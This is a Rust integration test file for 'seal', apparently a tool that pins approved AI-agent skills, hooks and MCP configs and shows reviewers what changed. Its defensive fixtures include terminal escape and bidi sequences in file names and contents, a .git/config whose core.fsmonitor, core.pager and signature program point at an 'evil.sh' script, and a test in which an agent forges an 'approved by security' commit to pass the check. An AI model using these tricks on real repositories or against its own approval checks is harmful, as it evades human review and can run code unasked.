//! The commands a reviewer reads: `seal why` (with `--json`), `seal
//! status` and `seal diff`, through the real binary on temporary projects
//! (with git history for `seal diff`). Hostile names and contents must
//! reach the terminal escaped, and every JSON document must parse.

use std::path::PathBuf;
use std::process::{Command, Stdio};

mod support;
use support::git_in;

const SEAL: &str = env!("CARGO_BIN_EXE_seal");

struct Repo {
    dir: tempfile::TempDir,
}

struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Repo {
    /// An empty project directory (no seal.json, no git).
    fn bare() -> Repo {
        Repo {
            dir: tempfile::Builder::new()
                .prefix("sealfs-review-")
                .tempdir()
                .unwrap(),
        }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn write(&self, rel: &str, content: impl AsRef<[u8]>) -> &Repo {
        let p = self.path(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, content).unwrap();
        self
    }

    fn remove(&self, rel: &str) -> &Repo {
        let p = self.path(rel);
        if p.is_dir() {
            std::fs::remove_dir_all(p).unwrap();
        } else {
            std::fs::remove_file(p).unwrap();
        }
        self
    }

    fn seal(&self, args: &[&str], stdin: &str) -> Out {
        let mut child = Command::new(SEAL)
            .args(args)
            .current_dir(self.dir.path())
            .env_remove("GITHUB_WORKSPACE")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        use std::io::Write;
        let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
        let out = child.wait_with_output().unwrap();
        Out {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8(out.stdout).unwrap(),
            stderr: String::from_utf8(out.stderr).unwrap(),
        }
    }

    fn init(&self) {
        let out = self.seal(&["init"], "y\n");
        assert_eq!(out.code, 0, "{}", out.stderr);
    }

    fn json(&self, args: &[&str]) -> (i32, serde_json::Value) {
        let out = self.seal(args, "");
        let doc = serde_json::from_str(&out.stdout)
            .unwrap_or_else(|e| panic!("{args:?}: not JSON ({e}): {}{}", out.stdout, out.stderr));
        (out.code, doc)
    }

    fn git(&self, args: &[&str]) -> String {
        git_in(self.dir.path(), args)
    }

    fn commit(&self, message: &str) -> String {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-q", "--allow-empty", "-m", message]);
        self.git(&["rev-parse", "HEAD"]).trim().to_string()
    }
}

// ---------------------------------------------------------------------------
// seal why
// ---------------------------------------------------------------------------

#[test]
fn why_json_has_the_fields_of_the_human_answer() {
    let r = Repo::bare();
    r.write(".claude/skills/review/SKILL.md", "approved\n")
        .write("src/main.rs", "fn main() {}\n");
    r.init();
    r.write(".claude/skills/review/SKILL.md", "tampered\n")
        .write(".claude/commands/deploy.md", "deploy\n");
    let human = r.seal(&["why", ".claude/skills/review/SKILL.md"], "");
    assert_eq!(human.code, 0);
    assert_eq!(human.stdout, "", "the human answer is on stderr");
    assert!(
        human.stderr.contains("decision: hidden"),
        "{}",
        human.stderr
    );
    let (code, doc) = r.json(&["why", "--json", ".claude/skills/review/SKILL.md"]);
    assert_eq!(code, 0);
    assert_eq!(doc["path"], "./.claude/skills/review/SKILL.md");
    assert_eq!(doc["location"], "project");
    assert_eq!(doc["exists"], true);
    assert_eq!(doc["class"], "inside-sealed-root");
    assert_eq!(doc["key"], "./.claude/skills/review");
    assert_eq!(doc["patterns"], serde_json::json!([".claude/skills/*"]));
    assert_eq!(doc["lockfile"], "present");
    assert_eq!(doc["recorded"], true);
    assert_eq!(doc["state"], "Mismatch");
    assert_eq!(doc["modified"], serde_json::json!(["SKILL.md"]));
    assert_eq!(doc["policy"], "block");
    assert_eq!(doc["policySource"], "project");
    assert_eq!(doc["decision"], "hidden");
    assert_eq!(doc["fix"], "seal pin .claude/skills/review");
    let (_, doc) = r.json(&["why", "--json", ".claude/commands/deploy.md"]);
    assert_eq!(doc["class"], "artifact");
    assert_eq!(doc["state"], "Unverified");
    assert_eq!(doc["decision"], "hidden");
    assert_eq!(doc["fix"], "seal pin .claude/commands/deploy.md");
    let (_, doc) = r.json(&["why", "--json", "src/main.rs"]);
    assert_eq!(doc["class"], "ordinary");
    assert_eq!(doc["decision"], "visible");
    assert!(doc.get("fix").is_none(), "{doc}");
    // Outside the project.
    let (code, doc) = r.json(&["why", "--json", "/usr"]);
    assert_eq!(code, 0);
    assert_eq!(doc["location"], "outside");
    assert!(
        doc["decision"].is_string() && doc["reason"].is_string(),
        "{doc}"
    );
}

#[test]
fn why_says_a_path_that_is_not_there_does_not_exist() {
    let r = Repo::bare();
    r.write(".claude/skills/review/SKILL.md", "approved\n");
    r.init();
    let out = r.seal(&["why", "nonexistent.md"], "");
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("exists:   no (nothing at this path on disk)")
            && out
                .stderr
                .contains("decision: absent (nothing at this path on disk)"),
        "{}",
        out.stderr
    );
    assert!(!out.stderr.contains("visible"), "{}", out.stderr);
    let (_, doc) = r.json(&["why", "--json", "nonexistent.md"]);
    assert_eq!(doc["exists"], false);
    assert_eq!(doc["decision"], "absent");
}

#[test]
fn why_explains_a_project_without_seal_json() {
    let r = Repo::bare();
    r.write(".claude/commands/deploy.md", "deploy\n")
        .write("src/main.rs", "fn main() {}\n");
    let out = r.seal(&["why", ".claude/commands/deploy.md"], "");
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("lockfile: none; there is no seal.json, so Seal is not active")
            && out.stderr.contains("class:    an agent artifact")
            && out.stderr.contains(
                "decision: no-view (no seal.json: seal mount and seal run refuse to start"
            )
            && out.stderr.contains("run 'seal init'"),
        "{}",
        out.stderr
    );
    let (code, doc) = r.json(&["why", "--json", ".claude/commands/deploy.md"]);
    assert_eq!(code, 0);
    assert_eq!(doc["lockfile"], "missing");
    assert_eq!(doc["class"], "artifact");
    assert_eq!(doc["decision"], "no-view");
    assert!(doc.get("policy").is_none(), "{doc}");
    // An invalid seal.json is still an error (exit 2, JSON on stdout too).
    r.write("seal.json", "garbage");
    let out = r.seal(&["why", "--json", "src/main.rs"], "");
    assert_eq!(out.code, 2);
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(doc["exit"], 2);
}

// ---------------------------------------------------------------------------
// seal diff
// ---------------------------------------------------------------------------

/// A git project with one pinned skill (`rev`: text, a binary, a file to
/// rename, a file to remove) and a pinned bundle that will be removed,
/// committed as `approve`; then a later commit that changes the skill
/// without pinning (history must still find the approved bytes).
fn history_repo() -> (Repo, String) {
    let r = Repo::bare();
    r.git(&["init", "-q", "."]);
    r.write(".claude/skills/rev/SKILL.md", "line1\nline2\nline3\n")
        .write(".claude/skills/rev/old-name.md", "kept bytes\n")
        .write(".claude/skills/rev/gone.md", "a\nb\n")
        .write(".claude/skills/rev/logo.png", b"\x89PNG\0\x01approved")
        .write(".claude/skills/done/SKILL.md", "done\n");
    r.init();
    let approved = r.commit("approve");
    // A later, unpinned commit of different bytes (the newest one at the
    // path, which is not the approved version).
    r.write(".claude/skills/rev/SKILL.md", "line1\nCOMMITTED\nline3\n");
    r.commit("change without pinning");
    (r, approved)
}

/// Changes the skill of `history_repo` in every way a file can change: a
/// text file modified, a binary one modified, a script added, a file
/// removed, one renamed.
fn change_every_way(r: &Repo) {
    r.write(".claude/skills/rev/SKILL.md", "line1\nLINE2\nline3\n")
        .write(".claude/skills/rev/logo.png", b"\x89PNG\0\x02tampered!")
        .write(".claude/skills/rev/run.sh", "#!/bin/sh\necho hi\n")
        .remove(".claude/skills/rev/gone.md");
    std::fs::rename(
        r.path(".claude/skills/rev/old-name.md"),
        r.path(".claude/skills/rev/new-name.md"),
    )
    .unwrap();
}

#[test]
fn diff_shows_modified_added_removed_binary_and_renamed_files_against_history() {
    let (r, approved) = history_repo();
    change_every_way(&r);
    r.remove(".claude/skills/done");
    let out = r.seal(&["diff"], "");
    assert_eq!(out.code, 1, "Blocked, as verify: {}", out.stderr);
    let short = &approved[..12];
    let expected = format!(
        "Removed ./.claude/skills/done  (recorded in seal.json, not on disk)\n\
         \x20 removed   SKILL.md  (-1 lines; approved bytes from commit {short})\n\
         --- a/.claude/skills/done/SKILL.md\n\
         +++ /dev/null\n\
         @@ -1 +0,0 @@\n\
         -done\n\
         \n\
         Mismatch ./.claude/skills/rev  (changed since it was pinned)\n\
         \x20 modified  SKILL.md  (+1 -1 lines; approved bytes from commit {short})\n\
         --- a/.claude/skills/rev/SKILL.md\n\
         +++ b/.claude/skills/rev/SKILL.md\n\
         @@ -1,3 +1,3 @@\n\
         \x20line1\n\
         -line2\n\
         +LINE2\n\
         \x20line3\n\
         \x20 removed   gone.md  (-2 lines; approved bytes from commit {short})\n\
         --- a/.claude/skills/rev/gone.md\n\
         +++ /dev/null\n\
         @@ -1,2 +0,0 @@\n\
         -a\n\
         -b\n"
    );
    assert!(out.stdout.starts_with(&expected), "{}", out.stdout);
    let rest = &out.stdout[expected.len()..];
    assert!(
        rest.starts_with("  modified  logo.png  (binary; approved 14 bytes, sha256:"),
        "{rest}"
    );
    assert!(
        rest.contains(&format!("from commit {short}; now 15 bytes, sha256:")),
        "{rest}"
    );
    assert!(
        rest.contains(
            "  renamed   old-name.md -> new-name.md  (content unchanged)\n\
             \x20 added     run.sh  (+2 lines)\n\
             --- /dev/null\n\
             +++ b/.claude/skills/rev/run.sh\n\
             @@ -0,0 +1,2 @@\n\
             +#!/bin/sh\n\
             +echo hi\n"
        ),
        "{rest}"
    );
    // The same as JSON, with the full commit and both hashes.
    let (code, doc) = r.json(&["diff", "--json"]);
    assert_eq!(code, 1);
    assert_eq!(doc["status"], "Blocked");
    assert_eq!(doc["history"]["source"], "git");
    let rev = doc["bundles"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["key"] == "./.claude/skills/rev")
        .unwrap();
    let file = |name: &str| {
        rev["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == name)
            .unwrap_or_else(|| panic!("{name} in {rev}"))
            .clone()
    };
    let skill = file("SKILL.md");
    assert_eq!(skill["change"], "modified");
    assert_eq!(skill["approved"]["commit"], approved.as_str());
    assert_eq!(skill["linesAdded"], 1);
    assert_eq!(skill["linesRemoved"], 1);
    assert!(
        skill["diff"].as_str().unwrap().contains("-line2\n+LINE2\n"),
        "{skill}"
    );
    let logo = file("logo.png");
    assert_eq!(logo["binary"], true);
    assert_eq!(logo["approved"]["size"], 14);
    assert_eq!(logo["current"]["size"], 15);
    assert!(logo.get("diff").is_none());
    let renamed = file("new-name.md");
    assert_eq!(renamed["change"], "renamed");
    assert_eq!(renamed["from"], "old-name.md");
    assert_eq!(file("run.sh")["change"], "added");
    assert_eq!(file("gone.md")["change"], "removed");
    // PATH selects bundles; the exit code is over those shown.
    let out = r.seal(&["diff", ".claude/skills/done"], "");
    assert_eq!(out.code, 0, "Removed alone is Drift: {}", out.stderr);
    assert!(
        out.stdout.starts_with("Removed ./.claude/skills/done"),
        "{}",
        out.stdout
    );
    assert!(!out.stdout.contains("skills/rev"), "{}", out.stdout);
    let out = r.seal(&["diff", ".claude/skills/rev/SKILL.md"], "");
    assert!(
        out.stdout.starts_with("Mismatch ./.claude/skills/rev"),
        "{}",
        out.stdout
    );
    let out = r.seal(&["diff", "src"], "");
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.contains("src: no bundle is there"),
        "{}",
        out.stderr
    );
}

#[test]
fn an_unverified_bundle_is_all_added_and_a_verified_project_shows_nothing() {
    let (r, _) = history_repo();
    r.write(".claude/skills/rev/SKILL.md", "line1\nline2\nline3\n");
    let out = r.seal(&["diff"], "");
    assert_eq!((out.code, out.stdout.as_str()), (0, ""), "{}", out.stderr);
    assert!(out.stderr.contains("nothing to show"), "{}", out.stderr);
    r.write(".claude/skills/fresh/SKILL.md", "new\nskill\n")
        .write(".claude/skills/fresh/tool.bin", b"\0\x01");
    let out = r.seal(&["diff"], "");
    assert_eq!(out.code, 1);
    assert!(
        out.stdout.starts_with(
            "Unverified ./.claude/skills/fresh  (not in seal.json: every file is new)\n\
             \x20 added     SKILL.md  (+2 lines)\n\
             --- /dev/null\n\
             +++ b/.claude/skills/fresh/SKILL.md\n\
             @@ -0,0 +1,2 @@\n\
             +new\n\
             +skill\n\
             \x20 added     tool.bin  (binary; now 2 bytes, sha256:"
        ),
        "{}",
        out.stdout
    );
}

#[test]
fn without_history_the_recorded_and_current_hashes_say_which_files_differ() {
    let r = Repo::bare();
    r.write(".claude/skills/rev/SKILL.md", "approved\n")
        .write(".claude/skills/rev/same.md", "same\n");
    r.init();
    r.write(".claude/skills/rev/SKILL.md", "tampered\n");
    let out = r.seal(&["diff"], "");
    assert_eq!(out.code, 1);
    assert!(
        out.stderr.contains("seal: diff: no git history (")
            && out
                .stderr
                .contains("changed files are named by their recorded and current SHA-256"),
        "{}",
        out.stderr
    );
    let approved = sha("approved\n");
    let now = sha("tampered\n");
    assert_eq!(
        out.stdout,
        format!(
            "Mismatch ./.claude/skills/rev  (changed since it was pinned)\n\
             \x20 modified  SKILL.md  (no git history: the approved bytes are unknown; approved \
             {approved}; now 9 bytes, {now})\n\n"
        )
    );
    let (_, doc) = r.json(&["diff", "--json"]);
    assert_eq!(doc["history"]["source"], "none");
    // A repository without the approved bytes says that instead.
    r.git(&["init", "-q", "."]);
    r.commit("only the tampered bytes");
    let out = r.seal(&["diff"], "");
    assert!(
        out.stdout
            .contains("no commit on HEAD's history has the approved bytes at this path"),
        "{}",
        out.stdout
    );
}

#[test]
fn hostile_names_and_contents_reach_the_terminal_escaped() {
    let (r, _) = history_repo();
    let name = "evil\u{1b}[2J\u{202e}gnp.sh";
    r.write(
        &format!(".claude/skills/rev/{name}"),
        "ok\n\u{1b}]0;pwned\u{7}\ttab\n",
    );
    r.write(
        ".claude/skills/rev/SKILL.md",
        "line1\n\u{9b}31m\u{202e}\nline3\n",
    );
    let out = r.seal(&["diff"], "");
    assert_eq!(out.code, 1);
    for raw in ['\u{1b}', '\u{202e}', '\u{9b}', '\u{7}'] {
        assert!(
            !out.stdout.contains(raw),
            "{raw:?} reached the terminal: {}",
            out.stdout
        );
        assert!(
            !out.stderr.contains(raw),
            "{raw:?} reached the terminal: {}",
            out.stderr
        );
    }
    assert!(
        out.stdout
            .contains("  added     evil\\u{001b}[2J\\u{202e}gnp.sh  (+2 lines)"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("+\\u{001b}]0;pwned\\u{0007}\ttab\n"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("+\\u{009b}31m\\u{202e}\n"),
        "{}",
        out.stdout
    );
    // JSON carries them exactly (JSON escapes them).
    let (_, doc) = r.json(&["diff", "--json"]);
    let files = doc["bundles"][0]["files"].as_array().unwrap();
    assert!(files.iter().any(|f| f["path"] == name), "{doc}");
}

#[test]
fn history_that_does_not_hash_to_the_record_is_never_shown_as_approved() {
    // The agent's move: commit its own bytes at the bundle's path, newest,
    // with a message claiming approval. Only a blob whose SHA-256 is the
    // recorded one counts.
    let (r, approved) = history_repo();
    r.write(".claude/skills/rev/SKILL.md", "line1\nEVIL\nline3\n");
    r.commit("approved by security (really)");
    let (_, doc) = r.json(&["diff", "--json", ".claude/skills/rev"]);
    let skill = doc["bundles"][0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "SKILL.md")
        .unwrap()
        .clone();
    assert_eq!(skill["approved"]["commit"], approved.as_str(), "{skill}");
    assert!(
        skill["diff"].as_str().unwrap().contains("-line2\n+EVIL\n"),
        "{skill}"
    );
}

#[test]
fn the_repository_s_own_settings_start_no_program() {
    // A signed commit and a .git/config (which the agent can write) that
    // verifies signatures on every log through a program of its choice.
    let (r, _) = history_repo();
    let keygen = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(r.path("key"))
        .status();
    if !keygen.is_ok_and(|s| s.success()) {
        assert!(
            std::env::var("CI").is_err(),
            "CI has ssh-keygen (openssh-client)"
        );
        eprintln!("SKIPPED: no ssh-keygen to sign a commit with");
        return;
    }
    let public = std::fs::read_to_string(r.path("key.pub")).unwrap();
    r.write("allowed", format!("t@example.com {public}"));
    let marker = r.path("RAN");
    r.write(
        "evil.sh",
        format!("#!/bin/sh\ntouch '{}'\nexit 1\n", marker.display()),
    );
    std::fs::set_permissions(
        r.path("evil.sh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let key = r.path("key.pub");
    let allowed = r.path("allowed");
    let evil = r.path("evil.sh");
    r.git(&["config", "gpg.format", "ssh"]);
    r.git(&["config", "user.signingkey", key.to_str().unwrap()]);
    r.write(".claude/skills/rev/SKILL.md", "line1\nsigned\nline3\n");
    r.git(&["add", "-A"]);
    r.git(&[
        "-c",
        "commit.gpgsign=true",
        "commit",
        "-q",
        "-S",
        "-m",
        "signed",
    ]);
    for (k, v) in [
        ("gpg.ssh.allowedSignersFile", allowed.to_str().unwrap()),
        ("gpg.ssh.program", evil.to_str().unwrap()),
        ("log.showSignature", "true"),
        ("core.fsmonitor", evil.to_str().unwrap()),
        ("core.pager", evil.to_str().unwrap()),
    ] {
        r.git(&["config", k, v]);
    }
    let out = r.seal(&["diff"], "");
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stdout.contains("approved bytes from commit"),
        "{}",
        out.stdout
    );
    assert!(!marker.exists(), "seal diff ran the repository's program");
}

fn sha(text: &str) -> String {
    use sha2::Digest as _;
    let digest = sha2::Sha256::digest(text.as_bytes());
    format!(
        "sha256:{}",
        digest
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect::<String>()
    )
}

// ---------------------------------------------------------------------------
// seal status
// ---------------------------------------------------------------------------

#[test]
fn status_is_verify_with_every_changed_file_the_hidden_artifacts_and_what_next() {
    let r = Repo::bare();
    r.write(".claude/skills/review/SKILL.md", "approved\n")
        .write(".claude/skills/ok/SKILL.md", "ok\n");
    r.init();
    r.write(".claude/skills/review/SKILL.md", "tampered\n")
        .write(".claude/skills/review/extra.md", "extra\n")
        .write(".claude/commands/deploy.md", "deploy\n");
    let status = r.seal(&["status"], "");
    assert_eq!(status.code, 1, "verify's exit code: {}", status.stderr);
    assert_eq!(status.stdout, "");
    // The verification and the hidden list are exactly verify -v's.
    let verify = r.seal(&["verify", "-v"], "");
    assert!(
        status.stderr.starts_with(&verify.stderr),
        "status:\n{}\nverify -v:\n{}",
        status.stderr,
        verify.stderr
    );
    assert!(
        status
            .stderr
            .contains("    modified: SKILL.md\n    added:    extra.md\n")
    );
    assert!(
        status.stderr.ends_with(
            "\nNext: 'seal diff' shows what changed in each bundle that is not verified; 'seal \
             pin' approves the changes (it asks first).\n"
        ),
        "{}",
        status.stderr
    );
    let (code, doc) = r.json(&["status", "--json"]);
    assert_eq!(code, 1);
    assert_eq!(doc["status"], "Blocked");
    assert_eq!(doc["policy"], "block");
    assert_eq!(doc["lockfile"], "present");
    assert_eq!(
        doc["counts"],
        serde_json::json!({"verified": 1, "unverified": 0, "removed": 0, "mismatch": 1})
    );
    assert_eq!(doc["verified"], serde_json::json!(["./.claude/skills/ok"]));
    assert_eq!(
        doc["bundles"],
        serde_json::json!([{
            "key": "./.claude/skills/review",
            "state": "Mismatch",
            "modified": ["SKILL.md"],
            "added": ["extra.md"],
            "missing": [],
            "problems": [],
        }])
    );
    let hidden = &doc["hidden"][0];
    assert_eq!(hidden["path"], "./.claude/commands/deploy.md");
    assert_eq!(hidden["decision"], "hidden");
    assert_eq!(hidden["fix"], "seal pin .claude/commands/deploy.md");
    // What why says about it is what status says.
    let (_, why) = r.json(&["why", "--json", ".claude/commands/deploy.md"]);
    assert_eq!(why["decision"], hidden["decision"]);
    assert_eq!(why["reason"], hidden["reason"]);
    // Nothing to do: verified, exit 0, no "Next".
    r.write(".claude/skills/review/SKILL.md", "approved\n")
        .remove(".claude/skills/review/extra.md")
        .remove(".claude/commands");
    let out = r.seal(&["status"], "");
    assert_eq!(out.code, 0);
    assert_eq!(
        out.stderr,
        "2 verified, 0 unverified, 0 removed, 0 mismatch\nResult: Verified (block mode)\n"
    );
    // No seal.json: exit 2, as verify.
    r.remove("seal.json");
    let out = r.seal(&["status", "--json"], "");
    assert_eq!(out.code, 2);
    assert!(out.stdout.contains("\"exit\": 2"), "{}", out.stdout);
}

// ---------------------------------------------------------------------------
// seal pin and seal init: what they approve, before the question
// ---------------------------------------------------------------------------

impl Repo {
    fn executable(&self, rel: &str) -> &Repo {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(self.path(rel), std::fs::Permissions::from_mode(0o755)).unwrap();
        self
    }
}

/// The part of a pin's or init's stderr before its question, which must be
/// there.
fn before_question(stderr: &str) -> &str {
    let at = stderr
        .find("? [y/N] ")
        .unwrap_or_else(|| panic!("no question: {stderr}"));
    &stderr[..at]
}

/// The list of what the approval lets run, from its heading on.
fn lets_run_list(stderr: &str) -> &str {
    let text = before_question(stderr);
    let at = text
        .find("What this approval lets run")
        .unwrap_or_else(|| panic!("no lets-run list: {text}"));
    &text[at..]
}

#[test]
fn init_shows_an_mcp_server_whose_command_is_evil_before_the_question() {
    // The story of issue 27: one `y` approved this unseen.
    let r = Repo::bare();
    r.write(
        ".mcp.json",
        r#"{"mcpServers": {"helper": {"command": "evil", "args": ["--all"]}}}"#,
    )
    .write(".claude/skills/review/SKILL.md", "# Review\nBe careful.\n");
    let out = r.seal(&["init"], "n\n");
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert_eq!(
        lets_run_list(&out.stderr),
        "What this approval lets run (1):\n  MCP server helper in .mcp.json: runs evil --all\n\n\
         Apply these changes",
    );
    // Each bundle's files with their line counts, under its row.
    assert!(
        out.stderr.contains(
            "  + ./.claude/skills/review  (1 files)\n    added     SKILL.md  (+2 lines)\n  + \
             ./.mcp.json  (1 files)\n    added     .mcp.json  (+1 lines)\n"
        ),
        "{}",
        out.stderr
    );
    assert!(!r.path("seal.json").exists());
}

#[test]
fn pin_marks_what_the_version_approved_before_did_not_run() {
    let r = Repo::bare();
    r.git(&["init", "-q", "."]);
    r.write(
        ".mcp.json",
        r#"{"mcpServers": {"docs": {"command": "npx", "args": ["docs-mcp"]}}}"#,
    );
    r.init();
    r.commit("approve");
    r.write(
        ".mcp.json",
        r#"{"mcpServers": {"docs": {"command": "npx", "args": ["docs-mcp"]},
            "helper": {"command": "evil"}}}"#,
    );
    let out = r.seal(&["pin"], "n\n");
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.contains(
            "  ~ modified  ./.mcp.json  (1 files)\n    modified  .mcp.json  (+2 -1 lines)\n"
        ),
        "{}",
        out.stderr
    );
    assert_eq!(
        lets_run_list(&out.stderr),
        "What this approval lets run (2, 1 not approved before):\n  new: MCP server helper in \
         .mcp.json: runs evil\n  MCP server docs in .mcp.json: runs npx docs-mcp\n\nApply these \
         pin changes"
    );
}

/// One file of each MCP, hook, plugin and extension format of the surface
/// table (by the row that makes it a surface), each naming a command (or
/// being code) marked `mark-...`.
const FORMATS: &[(&str, &str, &str)] = &[
    (
        ".claude/plugins/*",
        ".claude/plugins/p/.claude-plugin/plugin.json",
        r#"{"name": "p", "mcpServers": {"s": {"command": "mark-claude-plugin"}}}"#,
    ),
    (
        ".claude/settings.json",
        ".claude/settings.json",
        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "mark-claude-settings"}]}]}}"#,
    ),
    (
        ".claude/settings.local.json",
        ".claude/settings.local.json",
        r#"{"statusLine": {"type": "command", "command": "mark-claude-local"}}"#,
    ),
    (
        ".mcp.json",
        ".mcp.json",
        r#"{"mcpServers": {"s": {"command": "mark-mcp-json"}}}"#,
    ),
    (
        ".codex/config.toml",
        ".codex/config.toml",
        "[mcp_servers.s]\ncommand = \"mark-codex-config\"\n",
    ),
    (
        ".codex/hooks.json",
        ".codex/hooks.json",
        r#"{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "mark-codex-hooks"}]}]}}"#,
    ),
    (
        ".gemini/settings.json",
        ".gemini/settings.json",
        r#"{"mcpServers": {"s": {"command": "mark-gemini"}}}"#,
    ),
    (
        ".github/hooks/*",
        ".github/hooks/start.json",
        r#"{"version": 1, "hooks": {"sessionStart": [{"type": "command", "bash": "mark-copilot-hooks"}]}}"#,
    ),
    (
        ".github/mcp.json",
        ".github/mcp.json",
        r#"{"mcpServers": {"s": {"command": "mark-github-mcp"}}}"#,
    ),
    (
        ".github/copilot/settings.json",
        ".github/copilot/settings.json",
        r#"{"mcpServers": {"s": {"command": "mark-copilot-settings"}}}"#,
    ),
    (
        ".cursor/hooks.json",
        ".cursor/hooks.json",
        r#"{"version": 1, "hooks": {"afterFileEdit": [{"command": "mark-cursor-hooks"}]}}"#,
    ),
    (
        ".cursor/mcp.json",
        ".cursor/mcp.json",
        r#"{"mcpServers": {"s": {"url": "https://mark-cursor-mcp.example"}}}"#,
    ),
    (
        ".opencode/plugins",
        ".opencode/plugins/mark-opencode-plugin.ts",
        "export const P = async () => ({})\n",
    ),
    (
        ".opencode/tools",
        ".opencode/tools/mark-opencode-tool.ts",
        "export default {}\n",
    ),
    (
        "opencode.json",
        "opencode.json",
        r#"{"mcp": {"s": {"type": "local", "command": ["mark-opencode-json"]}}}"#,
    ),
    (
        "opencode.jsonc",
        "opencode.jsonc",
        "{\n  // JSONC\n  \"plugin\": [\"mark-jsonc-opencode\"],\n}\n",
    ),
    (
        ".windsurf/hooks.json",
        ".windsurf/hooks.json",
        r#"{"hooks": {"pre_run_command": [{"command": "mark-windsurf"}]}}"#,
    ),
    (
        ".continue/mcpServers",
        ".continue/mcpServers/db.yaml",
        "name: db\nmcpServers:\n  - name: db\n    command: mark-continue\n",
    ),
    (
        ".amp/settings.json",
        ".amp/settings.json",
        r#"{"amp.mcpServers": {"s": {"command": "mark-amp"}}}"#,
    ),
    (
        ".qwen/settings.json",
        ".qwen/settings.json",
        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "mark-qwen"}]}]}}"#,
    ),
    (
        ".roo/mcp.json",
        ".roo/mcp.json",
        r#"{"mcpServers": {"s": {"command": "mark-roo"}}}"#,
    ),
    (
        ".kilocode/mcp.json",
        ".kilocode/mcp.json",
        r#"{"mcpServers": {"s": {"command": "mark-kilo"}}}"#,
    ),
    (
        ".vscode/mcp.json",
        ".vscode/mcp.json",
        r#"{"servers": {"s": {"type": "stdio", "command": "mark-vscode"}}}"#,
    ),
    (
        ".github/extensions/*",
        ".github/extensions/mark-copilot-extension/extension.mjs",
        "export default {}\n",
    ),
    (
        ".pi/extensions/*",
        ".pi/extensions/mark-pi-extension/index.ts",
        "export default function () {}\n",
    ),
    (
        ".pi/settings.json",
        ".pi/settings.json",
        r#"{"packages": ["npm:mark-pi-package"], "defaultModel": "m"}"#,
    ),
    (
        ".github/plugin",
        ".github/plugin/plugin.json",
        r#"{"name": "mark-github-plugin"}"#,
    ),
    (
        ".claude-plugin",
        ".claude-plugin/marketplace.json",
        r#"{"name": "m", "plugins": [{"name": "x", "source": "mark-claude-marketplace"}]}"#,
    ),
    (
        ".cursor-plugin",
        ".cursor-plugin/plugin.json",
        r#"{"name": "p", "hooks": {"stop": [{"command": "mark-cursor-plugin"}]}}"#,
    ),
    (
        ".codebuddy-plugin",
        ".codebuddy-plugin/plugin.json",
        r#"{"name": "p", "mcpServers": {"s": {"command": "mark-codebuddy-plugin"}}}"#,
    ),
    (
        ".qoder-plugin",
        ".qoder-plugin/plugin.json",
        r#"{"name": "p", "hooks": {"stop": [{"command": "mark-qoder-plugin"}]}}"#,
    ),
    (
        ".codex-plugin",
        ".codex-plugin/plugin.json",
        r#"{"name": "p", "mcpServers": {"s": {"command": "mark-codex-plugin"}}}"#,
    ),
    (
        ".kiro/hooks",
        ".kiro/hooks/lint.kiro.hook",
        r#"{"enabled": true, "name": "lint", "when": {"type": "fileEdited", "patterns": ["*.ts"]}, "then": {"type": "runCommand", "command": "mark-kiro-hook"}}"#,
    ),
    (
        ".kiro/settings/mcp.json",
        ".kiro/settings/mcp.json",
        r#"{"mcpServers": {"s": {"command": "mark-kiro-mcp"}}}"#,
    ),
    (
        ".amazonq/mcp.json",
        ".amazonq/mcp.json",
        r#"{"mcpServers": {"s": {"command": "mark-amazonq-mcp"}}}"#,
    ),
    (
        ".amazonq/default.json",
        ".amazonq/default.json",
        r#"{"name": "default", "hooks": {"agentSpawn": [{"command": "mark-amazonq-agent"}]}}"#,
    ),
    (
        ".openhands/hooks.json",
        ".openhands/hooks.json",
        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "mark-openhands-hooks"}]}]}}"#,
    ),
    (
        ".trae/mcp.json",
        ".trae/mcp.json",
        r#"{"mcpServers": {"s": {"command": "mark-trae-mcp"}}}"#,
    ),
    (
        ".idx/mcp.json",
        ".idx/mcp.json",
        r#"{"mcpServers": {"s": {"command": "mark-idx-mcp"}}}"#,
    ),
    (
        ".crush.json",
        ".crush.json",
        r#"{"lsp": {"go": {"command": "mark-crush-lsp"}}}"#,
    ),
    (
        ".openhands/hooks",
        ".openhands/hooks/mark-openhands-gate.sh",
        "#!/bin/sh\nexit 0\n",
    ),
    (
        ".factory/settings.json",
        ".factory/settings.json",
        r#"{"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": "mark-factory-settings"}]}]}}"#,
    ),
    (
        ".factory/settings.local.json",
        ".factory/settings.local.json",
        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "mark-factory-local"}]}]}}"#,
    ),
    (
        ".factory/hooks.json",
        ".factory/hooks.json",
        r#"{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "mark-factory-hooks"}]}]}}"#,
    ),
    (
        ".factory/mcp.json",
